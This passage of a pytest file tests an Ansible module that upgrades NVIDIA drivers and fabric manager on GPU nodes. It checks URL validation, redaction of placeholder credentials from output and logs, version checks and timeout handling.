     "source ftp://artifacts.example.com/NVIDIA-Linux-x86_64-550.90.07.run is not an https:// URL"),
    # No credentials: still refused (the runfile would travel, and could be redirected, in clear).
    ({"source": "http://artifacts.example.com/NVIDIA-Linux-x86_64-550.90.07.run"}, "is not an https:// URL: the runfile is downloaded only over https"),
    ({"source": None, "presigned_url": "http://bucket.s3.amazonaws.com/x.run?X-Amz-Signature=hunter2"}, "presigned_url must be an https:// URL"),
    ({"source": None, "presigned_url": "ftp://mirror.example.com/x.run?sig=hunter2"}, "presigned_url must be an https:// URL"),
]


@pytest.mark.parametrize(("bad", "message"), BAD_OPTIONS, ids=[repr(b) for b, _m in BAD_OPTIONS])
def test_bad_option_is_refused_before_any_command(node, tmp_path, commands, run_module, bad, message):
    """Nothing runs on the node for a bad option: the message names the option and what to give instead."""
    n = node()
    apt_tools(commands)
    args = {key: value for key, value in dict(runfile_args(n, tmp_path), **bad).items() if value is not None}
    result = run_module(nvidia_driver.main, args)
    assert result.get("failed") is True, result
    assert message in result["msg"]
    assert "hunter2" not in json.dumps(result)
    assert commands.calls == []
    assert not n.state_file.exists()


@pytest.mark.parametrize("timeout", [1, 86400])
def test_timeout_range_ends_are_accepted(node, tmp_path, commands, run_module, timeout):
    n = node()
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path, timeout=timeout), check_mode=True)
    assert not result.get("failed"), result.get("msg")


def test_version_read_back_with_a_newline_is_not_the_target(node, tmp_path, commands, run_module):
    """The version given is checked whole, so a good install is never compared with '550.90.07\\n' afterwards."""
    n = node()
    args = runfile_args(n, tmp_path, version=NEW + "\n")
    result = run_module(nvidia_driver.main, args)
    assert result["failed"] is True and "version" in result["msg"]
    assert not any(c["argv"][0].endswith(("systemctl", "rmmod", "sh")) for c in commands.calls)


# -- secrets never reach output or logs (invariant 7): the real AnsibleModule, not a stub -------------------

SECRET_SOURCES = [
    "https://fleet:hunter2@artifacts.example.com/nvidia/NVIDIA-Linux-x86_64-550.90.07.run",
    "https://bucket.s3.amazonaws.com/NVIDIA-Linux-x86_64-550.90.07.run?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAhunter2"
    "&X-Amz-Signature=hunter2",
    "https://acct.blob.core.windows.net/c/NVIDIA-Linux-x86_64-550.90.07.run?sv=2022-11-02&se=2026-12-02&sig=hunter2",
    "https://artifacts.example.com/NVIDIA-Linux-x86_64-550.90.07.run?token=hunter2",
]


def _real_module_args(args):
    try:  # ansible-core >= 2.19
        from ansible.module_utils.testing import patch_module_args
    except ImportError:  # 2.16 - 2.18: the conftest's fallback
        from tests.unit.plugins.modules.conftest import patch_module_args  # pragma: no cover
    return patch_module_args(args)


@pytest.fixture
def real_module(monkeypatch, capsys):
    """Run main() with the real exit_json, fail_json and log; return (result, stdout, [what went to syslog / journal]).

    Only the last step of AnsibleModule.log is caught: syslog.syslog (the C call) or systemd.journal.send, so
    the invocation logging, its sanitising and the JSON output are AnsibleModule's own code.
    """
    import syslog
    import types

    from ansible.module_utils import basic

    def _run(args, journal=False):
        logged = []
        monkeypatch.setattr(syslog, "openlog", lambda *a, **k: None)
        monkeypatch.setattr(syslog, "syslog", lambda *a: logged.append(str(a[-1])))
        if journal:
            monkeypatch.setattr(basic, "has_journal", True)
            monkeypatch.setattr(basic, "journal", types.SimpleNamespace(send=lambda **kw: logged.append(json.dumps(kw))), raising=False)
        else:
            monkeypatch.setattr(basic, "has_journal", False)
        with _real_module_args(args):
            with pytest.raises(SystemExit):
                nvidia_driver.main()
        out = capsys.readouterr().out
        return json.loads(out), out, logged

    return _run


@pytest.mark.parametrize("journal", [False, True], ids=["syslog", "journal"])
@pytest.mark.parametrize("source", SECRET_SOURCES, ids=["userinfo", "s3-presigned", "azure-sas", "token"])
def test_source_with_a_secret_is_refused_and_never_shown(node, tmp_path, commands, real_module, source, journal):
    n = node()
    args = runfile_args(n, tmp_path, source=source)
    result, out, logged = real_module(args, journal=journal)
    assert result["failed"] is True
    assert result["msg"].startswith("source carries a ")
    assert "presigned_url" in result["msg"] and "url_username" in result["msg"] and "url_headers" in result["msg"]
    assert commands.calls == []
    assert logged, "the invocation was not logged at all: the test would see nothing"
    for text in (out, *logged):
        assert "hunter2" not in text
    assert result["invocation"]["module_args"]["source"] != source


@pytest.mark.parametrize("journal", [False, True], ids=["syslog", "journal"])
def test_presigned_url_headers_and_password_stay_out_of_output_and_logs(node, tmp_path, commands, real_module, monkeypatch, journal):
    """The no_log options carry the secrets: a failed download (checksum) shows the URL without them, logs mask them."""
    from ansible_collections.gpufleet.lifecycle.plugins.module_utils import _artifact

    seen = {}

    def fake_fetch(module, url, **kwargs):
        seen.update(url=url, headers=kwargs.get("headers"), username=module.params["url_username"], password=module.params["url_password"])
        return _Body(b"not the runfile"), {"status": 200, "msg": "OK", "url": url}

    monkeypatch.setattr(_artifact, "fetch_url", fake_fetch)
    n = node()
    apt_tools(commands)
    presigned = SECRET_SOURCES[1]
    args = runfile_args(n, tmp_path, checksum="sha256:" + "0" * 64, url_username="fleet", url_password="pw-hunter2",  # noqa: S106 (made up)
                        url_headers={"Authorization": "Bearer hunter2"})
    del args["source"]
    args["presigned_url"] = presigned
    result, out, logged = real_module(args, journal=journal)
    assert result["failed"] is True
    assert result["msg"].startswith("checksum mismatch for https://bucket.s3.amazonaws.com/NVIDIA-Linux-x86_64-550.90.07.run: sha256 is ")
    assert seen == {"url": presigned, "headers": {"Authorization": "Bearer hunter2"}, "username": "fleet", "password": "pw-hunter2"}
    assert n.argvs() == READ
    assert logged
    for text in (out, *logged):
        assert "hunter2" not in text and "X-Amz-Signature" not in text


def test_module_file_run_as_ansible_runs_it_never_logs_a_secret_source(tmp_path):
    """The module file as Ansible starts it (python module.py args.json), syslog.syslog recorded in that process."""
    import subprocess
    import sys

    root = pathlib.Path(__file__).resolve().parents[4]
    logfile = tmp_path / "syslog.txt"
    argsfile = tmp_path / "args.json"
    argsfile.write_text(json.dumps({"ANSIBLE_MODULE_ARGS": {
        "version": NEW, "source": SECRET_SOURCES[0], "checksum": "sha256:" + "0" * 64, "state_file": str(tmp_path / "gpufleet.fact"),
    }}))
    wrapper = (
        "import runpy, sys, syslog\n"
        f"log = open({str(logfile)!r}, 'a')\n"
        "syslog.openlog = lambda *a, **k: None\n"
        "syslog.syslog = lambda *a: (log.write(str(a[-1]) + '\\n'), log.flush())\n"
        f"sys.argv = [{str(root / 'plugins/modules/nvidia_driver.py')!r}, {str(argsfile)!r}]\n"
        "runpy.run_path(sys.argv[0], run_name='__main__')\n"
    )
    env = {"PYTHONPATH": str(root / ".collections"), "PATH": "/usr/bin:/bin", "LC_ALL": "C", "PYTHONDONTWRITEBYTECODE": "1"}
    proc = subprocess.run([sys.executable, "-c", wrapper], capture_output=True, text=True, env=env, timeout=60, check=False)
    result = json.loads(proc.stdout)
    assert result["failed"] is True and result["msg"].startswith("source carries a user name or password"), result
    logged = logfile.read_text()
    assert "Invoked with" in logged
    for text in (proc.stdout, proc.stderr, logged):
        assert "hunter2" not in text


# -- invariant 10: the fabric manager equals the driver after every change ----------------------------------

def _runfile_upgrade(n, tmp_path, commands, fm_after):
    """A runfile upgrade on an NVSwitch node whose fabric manager package install leaves ``fm_after`` behind."""
    apt_tools(commands)
    args = runfile_args(n, tmp_path)
    installer = ["/usr/bin/sh", args["source"], "--silent", "--no-questions", "-m=kernel-open", "--dkms"]
    commands.on(installer)
    n.hooks[tuple(installer)] = lambda: n.set_driver(NEW)
    apt_install = ["/usr/bin/apt-get", "install", "-y", "-q", "--allow-change-held-packages", *APT_OPTS, "nvidia-fabricmanager-550=550.90.07-1"]
    commands.on(apt_install)
    n.hooks[tuple(apt_install)] = lambda: n.set_fm(fm_after)
    commands.on(["/usr/bin/apt-mark", "hold", "nvidia-fabricmanager-550"])
    return args


def test_fabric_manager_that_did_not_follow_the_driver_fails_the_change(node, tmp_path, commands, run_module):
    """apt-get said yes but nv-fabricmanager still answers the old version: NVLink would not work, so the change failed."""
    n = node()
    args = _runfile_upgrade(n, tmp_path, commands, fm_after=OLD)
    result = run_module(nvidia_driver.main, args)
    assert result["failed"] is True
    assert result["msg"].startswith(f"driver {NEW} is installed but nvidia-fabricmanager is {OLD}: install the matching fabric manager")
    assert result["node_state"]["driver_loaded"] == NEW and result["node_state"]["fabricmanager"] == OLD
    assert [h["result"] for h in json.loads(n.state_file.read_text())["history"]] == ["started", "failed"]


def test_fabric_manager_service_down_after_the_change_fails_it(node, tmp_path, commands, run_module):
    n = node()
    args = _runfile_upgrade(n, tmp_path, commands, fm_after=NEW)
    start_fm = ["/usr/bin/systemctl", "start", "nvidia-fabricmanager"]
    n.hooks[tuple(start_fm)] = lambda: commands.on(IS_ACTIVE, rc=3, stdout="active\nfailed\nactive\n")
    result = run_module(nvidia_driver.main, args)
    assert result["failed"] is True
    assert result["msg"].startswith(f"nvidia-fabricmanager {NEW} is installed but the service is failed: see journalctl -u nvidia-fabricmanager")


# -- a hung nvidia-smi is stopped by its time limit, and the message says so --------------------------------

def test_hung_nvidia_smi_before_acting_says_it_timed_out(node, tmp_path, commands, run_module):
    n = node()
    commands.on(SMI_VERSION, rc=124)
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path))
    assert result["failed"] is True
    assert result["msg"].startswith("nvidia-smi did not finish within 120 s (timed out and was stopped)")
    assert "Nothing was changed" in result["msg"] and "dmesg" in result["msg"]
    assert result["rc"] == 124 and result["cmd"][:3] == ["/usr/bin/timeout", "--kill-after=10", "120"]
    assert n.argvs() == [SMI_VERSION]
    assert not n.state_file.exists()


def test_hung_nvidia_smi_after_the_install_says_it_timed_out(node, tmp_path, commands, run_module):
    n = node()
    args = _runfile_upgrade(n, tmp_path, commands, fm_after=NEW)
    installer = ("/usr/bin/sh", args["source"], "--silent", "--no-questions", "-m=kernel-open", "--dkms")
    n.hooks[installer] = lambda: (n.set_driver(NEW), commands.on(SMI_VERSION, rc=124))
    result = run_module(nvidia_driver.main, args)
    assert result["failed"] is True
    assert "nvidia-smi did not finish within 120 s (timed out and was stopped)" in result["msg"]
    assert "Nothing was changed" not in result["msg"]
    assert "did not finish within 120 s" in result["node_state"]["error"]
    assert [h["result"] for h in json.loads(n.state_file.read_text())["history"]] == ["started", "failed"]


# -- package manager output that does not read as expected stops the module before anything changes ------------

@pytest.mark.parametrize(
    ("dpkg", "message"),
    [
        ("nvidia-driver-550-open 550.90.07-1\n", "cannot read what dpkg-query says about the NVIDIA packages: dpkg-query: line 1 is not"),
        ("nvidia-driver-550-open 2024.1-1 ii \n", "package nvidia-driver-550-open is installed at version '2024.1', which is not an NVIDIA driver version"),
    ],
    ids=["unreadable", "not-a-driver-version"],
)
def test_unexpected_dpkg_query_output_changes_nothing(node, tmp_path, commands, run_module, dpkg, message):
    n = node(nvswitch=False)
    apt_tools(commands)
    commands.on(DPKG_QUERY, stdout=dpkg)
    result = run_module(nvidia_driver.main, {"version": NEW, "method": "package", "package_manager": "apt", "state_file": str(n.state_file)})
    assert result["failed"] is True
    assert result["msg"].startswith(message) and result["msg"].endswith("Nothing was changed")
    assert n.argvs() == [DPKG_QUERY]
    assert not n.state_file.exists()


def test_dnf_without_versionlock_says_what_to_install(node, tmp_path, commands, run_module):
    n = node(nvswitch=False)
    for tool in ("dnf", "rpm"):
        commands.tool(tool)
    commands.on(RPM_Q, rc=1, stdout=(FIXTURES / "driver/rpm_q_535.txt").read_text())
    commands.on(["/usr/bin/dnf", "versionlock", "list"], rc=2, stderr="No such command: versionlock.\n")
    result = run_module(nvidia_driver.main, {"version": NEW, "method": "package", "package_manager": "dnf", "state_file": str(n.state_file)})
    assert result["failed"] is True
    assert result["msg"].startswith("cannot list the dnf version locks (dnf failed with exit status 2: No such command: versionlock.)")
    assert "python3-dnf-plugin-versionlock" in result["msg"]
    assert n.argvs() == [RPM_Q, ["/usr/bin/dnf", "versionlock", "list"]]


@pytest.mark.parametrize("answer", [f"{NEW}\n{OLD}\n", "[N/A]\n", f"{NEW}\r\nNVIDIA-SMI has failed\n"], ids=["two-versions", "na", "garbage"])
def test_nvidia_smi_version_that_does_not_read_as_one_version_fails(node, tmp_path, commands, run_module, answer):
    """Not a silent pick of sorted(versions)[0]: the module stops and shows what nvidia-smi said."""
    n = node()
    commands.on(SMI_VERSION, stdout=answer)
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path))
    assert result["failed"] is True
    assert result["msg"].startswith("nvidia-smi --query-gpu=driver_version answered ")
    assert result["msg"].endswith("Nothing was changed") and result["stdout"] == answer
    assert n.argvs() == [SMI_VERSION]


def test_runfile_missing_on_the_node_changes_nothing(node, tmp_path, commands, run_module):
    n = node()
    apt_tools(commands)
    missing = str(tmp_path / "NVIDIA-Linux-x86_64-550.90.07.run.missing")
    result = run_module(nvidia_driver.main, runfile_args(n, tmp_path, source=missing))
    assert result["failed"] is True
    assert result["msg"].startswith(f"{missing} does not exist on the node (or is not a file): copy it there first")
    assert n.argvs() == READ
    assert not n.state_file.exists()
